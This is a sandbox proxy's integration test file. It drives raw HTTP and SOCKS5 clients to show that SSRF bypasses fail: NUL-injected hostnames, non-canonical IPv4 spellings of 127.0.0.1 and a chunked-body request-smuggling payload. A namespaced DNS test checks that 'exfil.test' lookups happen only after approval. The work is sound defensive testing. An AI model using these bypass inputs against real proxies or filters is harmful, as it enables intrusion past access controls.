// Issue 17's attacks from inside the real sandbox (empty network namespace) through the real
// proxy: hand-written HTTP and SOCKS5 clients (python3, raw sockets to the bridge's
// 127.0.0.1:3128 and :1080) against servers on the host's 127.0.0.1 and ::1, each with a canary
// that fails the test if it receives one byte. Also, in a user+mount+network namespace this test
// creates (so no query can leave the machine), a logging DNS server on 127.0.0.1:53 behind a
// private /etc/resolv.conf, to show that the proxy resolves nothing before a yes.
import { spawnSync } from "node:child_process";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";

import { afterAll, beforeAll, describe, expect, it } from "vitest";

import type { ApprovalAnswer, Approver } from "../../src/approval/approver.js";
import { loadFdPassing } from "../../src/native/native-addon.js";
import { createKernelRelay } from "../../src/exec/kernel-relay.js";
import { NetworkApprovalBroker } from "../../src/network/approval-broker.js";
import type { NetworkPolicyConfig } from "../../src/network/network-policy.js";
import { policyWith } from "../helpers/network-policy.js";
import { NetworkProxy } from "../../src/network/network-proxy.js";
import type { SandboxPolicy } from "../../src/sandbox/sandbox-policy.js";
import { requireInCi } from "../helpers/ci.js";
import { hasTool, launcher, sandboxUnavailable } from "../helpers/sandbox.js";
import { runIntercepted } from "../helpers/intercepted.js";
import { REPO_ROOT } from "../helpers/paths.js";
import {
  httpReply,
  recordingServer,
  serverAndCanary,
  type Cleanup,
} from "../unit/network/attack-harness.js";

const missing =
  sandboxUnavailable ?? (hasTool("python3", "--version") ? undefined : "python3 is not installed");

const NO_NETWORK: SandboxPolicy = {
  type: "read-only",
  access: { type: "full-access" },
  network_access: false,
};

const answering = (answer: ApprovalAnswer): Approver => ({ ask: () => Promise.resolve(answer) });

/** Raw clients, run with python3 inside the sandbox; each prints one line per attempt. */
const CLIENT = String.raw`
import socket, sys

def recv_all(s):
    data = b""
    s.settimeout(20)
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    except Exception:
        pass
    return data

def socks(name, port):
    s = socket.create_connection(("127.0.0.1", 1080))
    s.sendall(b"\x05\x01\x00")
    s.recv(2)
    raw = name.encode("latin1")
    s.sendall(b"\x05\x01\x00\x03" + bytes([len(raw)]) + raw + port.to_bytes(2, "big"))
    reply = s.recv(10)
    s.close()
    return "closed" if len(reply) < 2 else str(reply[1])

def http(request):
    s = socket.create_connection(("127.0.0.1", 3128))
    s.sendall(request.encode("latin1"))
    data = recv_all(s)
    s.close()
    return data.split(b"\r\n", 1)[0].decode("latin1") or "closed"

def tunnel(authority, i):
    s = socket.create_connection(("127.0.0.1", 3128))
    s.sendall(("CONNECT %s HTTP/1.1\r\nhost: %s\r\n\r\n" % (authority, authority)).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(1)
        if not chunk:
            return "closed at %d" % i
        head += chunk
    if not head.startswith(b"HTTP/1.1 200"):
        return "refused at %d: %s" % (i, head.split(b"\r\n")[0].decode())
    s.sendall(b"ping %d" % i)
    s.shutdown(socket.SHUT_WR)
    echoed = recv_all(s)
    s.close()
    return "ok" if echoed == b"ping %d" % i else "bad echo at %d" % i

mode = sys.argv[1]
if mode == "socks":
    port = int(sys.argv[2])
    for name in sys.argv[3:]:
        name = name.replace("<NUL>", "\0")
        print(repr(name), socks(name, port))
elif mode == "http":
    for url in sys.argv[2:]:
        print(url, http("GET %s HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n" % url))
elif mode == "connect":
    port = int(sys.argv[2])
    for host in sys.argv[3:]:
        s = socket.create_connection(("127.0.0.1", 3128))
        s.sendall(("CONNECT %s:%d HTTP/1.1\r\nhost: x\r\n\r\n" % (host, port)).encode())
        print(host, recv_all(s).split(b"\r\n", 1)[0].decode("latin1") or "closed")
        s.close()
elif mode == "smuggle":
    url = sys.argv[2]
    smuggled = "GET /smuggled HTTP/1.1\r\nhost: x\r\n\r\n"
    body = "%x\r\n%s\r\n0\r\n\r\n" % (len(smuggled), smuggled)
    print("smuggle", http("GET %s HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n%s" % (url, body)))
elif mode == "tunnels":
    authority, count = sys.argv[2], int(sys.argv[3])
    results = [tunnel(authority, i) for i in range(count)]
    bad = [r for r in results if r != "ok"]
    print("tunnels ok" if not bad else "tunnels failed: %s" % bad[:3])
`;

let dir: string;
let client: string;
const cleanups: Cleanup[] = [];

beforeAll(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), "execward-net-attacks-"));
  client = path.join(dir, "client.py");
  await writeFile(client, CLIENT);
});
afterAll(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
  await rm(dir, { recursive: true, force: true });
});

function proxyWith(config: Partial<NetworkPolicyConfig>): NetworkProxy {
  return new NetworkProxy({
    relay: createKernelRelay(loadFdPassing()),
    policy: policyWith(config),
    broker: new NetworkApprovalBroker(),
  });
}

async function inSandbox(args: string, proxy: NetworkProxy, approver = answering("decline")) {
  const result = await runIntercepted(`python3 ${client} ${args}`, {
    cwd: dir,
    sandbox: { launcher, policy: NO_NETWORK },
    network: { proxy, approver },
  });
  return result.stdout;
}

describe.skipIf(requireInCi(missing))(
  `network attacks from inside the sandbox${missing === undefined ? "" : ` (SKIPPED: ${missing})`}`,
  () => {
    it("plain HTTP to an allowed [::1]:P reaches ::1, never a canary on 127.0.0.1:P", async () => {
      const { server, canary } = await serverAndCanary(cleanups, "::1", "127.0.0.1", "six");
      const proxy = proxyWith({ allowedDomains: ["::1"], allowedLocalAddresses: ["::1"] });
      const out = await inSandbox(`http http://[::1]:${server.port}/`, proxy);
      expect(canary.received().length).toBe(0);
      expect(out).toBe(`http://[::1]:${server.port}/ HTTP/1.1 200 OK\n`);
      expect(server.received().toString()).toMatch(/^GET \/ HTTP\/1\.1\r\n/);
    });

    it("SOCKS5 names with NUL or non-canonical IPv4 spellings reach no denied canary", async () => {
      const canary = await recordingServer(cleanups, "127.0.0.1");
      const proxy = proxyWith({
        allowedDomains: ["*.allowed.test", "*"],
        deniedDomains: ["localhost", "127.0.0.1"],
        allowedLocalAddresses: ["127.0.0.0/8"],
      });
      const names = [
        "localhost<NUL>.allowed.test",
        "127.1",
        "2130706433",
        "0x7f.0.0.1",
        "0177.0.0.1",
        "localhost",
      ];
      const quoted = names.map((name) => `'${name}'`).join(" ");
      const out = await inSandbox(`socks ${canary.port} ${quoted}`, proxy);
      expect(canary.connections()).toBe(0);
      const lines = out.trim().split("\n");
      expect(lines).toHaveLength(names.length);
      for (const line of lines) expect(line).not.toMatch(/ 0$/);
    });

    it("CONNECT and plain HTTP in non-canonical IPv4 spellings reach no denied canary", async () => {
      const canary = await recordingServer(cleanups, "127.0.0.1");
      const proxy = proxyWith({
        allowedDomains: ["*"],
        deniedDomains: ["127.0.0.1"],
        allowedLocalAddresses: ["127.0.0.0/8"],
      });
      const spellings = ["127.1", "2130706433", "0x7f.0.0.1", "0177.0.0.1", "localhost"];
      const out = await inSandbox(
        `connect ${canary.port} ${spellings.join(" ")}; python3 ${client} http ${spellings
          .map((host) => `http://${host}:${canary.port}/`)
          .join(" ")}`,
        proxy,
      );
      expect(canary.connections()).toBe(0);
      const lines = out.trim().split("\n");
      expect(lines).toHaveLength(spellings.length * 2);
      for (const line of lines) expect(line).toMatch(/ HTTP\/1\.1 40[03] /);
    });

    it("300 sequential CONNECT tunnels all work (slots come back when tunnels end)", async () => {
      const server = await recordingServer(cleanups, "127.0.0.1", {
        reply: (data, socket) => socket.end(data),
      });
      const proxy = proxyWith({
        allowedDomains: ["127.0.0.1"],
        allowedLocalAddresses: ["127.0.0.1"],
      });
      const out = await inSandbox(`tunnels 127.0.0.1:${server.port} 300`, proxy);
      expect(out).toBe("tunnels ok\n");
    }, 120_000);

    it("a GET with a chunked body is refused, and the upstream reads no smuggled request", async () => {
      const upstream = await recordingServer(cleanups, "127.0.0.1", { reply: httpReply("up") });
      const proxy = proxyWith({
        allowedDomains: ["127.0.0.1"],
        allowedLocalAddresses: ["127.0.0.1"],
      });
      const out = await inSandbox(`smuggle http://127.0.0.1:${upstream.port}/`, proxy);
      expect(upstream.received().toString()).not.toContain("/smuggled");
      expect(out).toBe("smuggle HTTP/1.1 400 Bad Request\n");
    });
  },
);

/** The namespace script: a logging DNS server on 127.0.0.1:53 and the built proxy. */
const DNS_SCRIPT = String.raw`
import dgram from "node:dgram";
import net from "node:net";
const dist = process.argv[2];
const { NetworkProxy } = await import(dist + "/network/network-proxy.js");
const { NetworkPolicy } = await import(dist + "/network/network-policy.js");
const { NetworkApprovalBroker } = await import(dist + "/network/approval-broker.js");

const queries = [];
const dns = dgram.createSocket("udp4");
dns.on("message", (msg, rinfo) => {
  // The question name, then an answer: 127.0.0.1 for A, nothing for the rest.
  let offset = 12;
  const labels = [];
  while (msg[offset] !== 0) {
    labels.push(msg.subarray(offset + 1, offset + 1 + msg[offset]).toString("latin1"));
    offset += msg[offset] + 1;
  }
  const qtype = msg.readUInt16BE(offset + 1);
  queries.push(labels.join("."));
  const question = msg.subarray(12, offset + 5);
  const header = Buffer.from(msg.subarray(0, 12));
  header.writeUInt16BE(0x8180, 2);
  header.writeUInt16BE(1, 4);
  header.writeUInt16BE(qtype === 1 ? 1 : 0, 6);
  header.writeUInt32BE(0, 8);
  const answer = qtype === 1
    ? Buffer.from([0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 127, 0, 0, 1])
    : Buffer.alloc(0);
  dns.send(Buffer.concat([header, question, answer]), rinfo.port, rinfo.address);
});
await new Promise((resolve) => dns.bind(53, "127.0.0.1", resolve));

const upstream = net.createServer((socket) => socket.end("pong"));
await new Promise((resolve) => upstream.listen(0, "127.0.0.1", resolve));
const port = upstream.address().port;

const results = {};
for (const [label, approvals, answer] of [
  ["deny", "ask", "deny"],
  ["unreachable", "ask", "unreachable"],
  ["never", "never", "allow-once"],
  ["yes", "ask", "allow-once"],
]) {
  const proxy = new NetworkProxy({
    policy: new NetworkPolicy({ allowedDomains: [], deniedDomains: [], allowedLocalAddresses: ["127.0.0.0/8"], approvals }),
    broker: new NetworkApprovalBroker(),
  });
  const context = {
    command: "dns",
    ask: () => (answer === "unreachable" ? Promise.reject(new Error("nobody")) : Promise.resolve(answer)),
  };
  const listener = await proxy.listen("http", context, 0);
  const status = await new Promise((resolve) => {
    const socket = net.connect(listener.address().port, "127.0.0.1", () => {
      socket.write("CONNECT secret-" + label + ".exfil.test:" + port + " HTTP/1.1\r\nhost: x\r\n\r\n");
    });
    let data = "";
    socket.on("data", (chunk) => {
      data += chunk;
      if (data.includes("\r\n\r\n")) { resolve(data.split("\r\n")[0]); socket.destroy(); }
    });
    socket.on("close", () => resolve(data.split("\r\n")[0] || "closed"));
  });
  results[label] = status;
  proxy.closeContext(context);
  listener.close();
}
console.log(JSON.stringify({ results, queries }));
process.exit(0);
`;

const canUnshare =
  process.platform === "linux" &&
  hasTool("ip", "-V") &&
  spawnSync("unshare", ["-rmn", "true"], { stdio: "ignore" }).status === 0;

describe.skipIf(
  requireInCi(canUnshare ? undefined : "cannot create user, mount and network namespaces"),
)(
  `resolving only after a yes, against a logging DNS server${canUnshare ? "" : " (SKIPPED: cannot create user, mount and network namespaces)"}`,
  () => {
    it("asks first: no DNS query on a no, without anyone to ask, or with approvals off", async () => {
      const script = path.join(dir, "dns-namespace.mjs");
      const resolvConf = path.join(dir, "resolv.conf");
      await writeFile(script, DNS_SCRIPT);
      await writeFile(resolvConf, "nameserver 127.0.0.1\noptions attempts:1 timeout:2\n");
      const result = spawnSync(
        "unshare",
        [
          "-rmn",
          "sh",
          "-c",
          'ip link set lo up && mount --bind "$1" /etc/resolv.conf && exec node "$2" "$3"',
          "sh",
          resolvConf,
          script,
          path.join(REPO_ROOT, "dist"),
        ],
        { encoding: "utf8", timeout: 60_000 },
      );
      expect(result.stderr).toBe("");
      const { results, queries } = JSON.parse(result.stdout) as {
        results: Record<string, string>;
        queries: string[];
      };
      expect(results).toEqual({
        deny: "HTTP/1.1 403 Forbidden",
        unreachable: "HTTP/1.1 403 Forbidden",
        never: "HTTP/1.1 403 Forbidden",
        yes: "HTTP/1.1 200 Connection Established",
      });
      // The yes shows the DNS server is really asked; nothing else may reach it.
      expect(queries.length).toBeGreaterThan(0);
      expect(new Set(queries)).toEqual(new Set(["secret-yes.exfil.test"]));
    });
  },
);
